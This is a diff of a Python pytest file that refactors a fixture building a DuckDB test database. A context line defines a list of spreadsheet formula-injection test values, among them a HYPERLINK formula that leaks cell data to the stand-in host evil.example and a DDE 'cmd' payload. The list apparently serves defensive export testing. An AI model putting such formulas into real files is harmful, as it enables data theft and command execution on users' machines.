@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 
 from engine.store import Store
+from tests.conftest import database_file
 from tests.whatif.conftest import fill_planner_company
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3",
@@ -37,8 +38,4 @@ def fill_markdown_company(store: Store) -> None:
 
 @pytest.fixture
 def formula_db(tmp_path) -> str:
-    path = tmp_path / "formula.duckdb"
-    store = Store.open(path)
-    fill_formula_company(store)
-    store.close()
-    return str(path)
+    return str(database_file(tmp_path / "formula.duckdb", fill_formula_company))
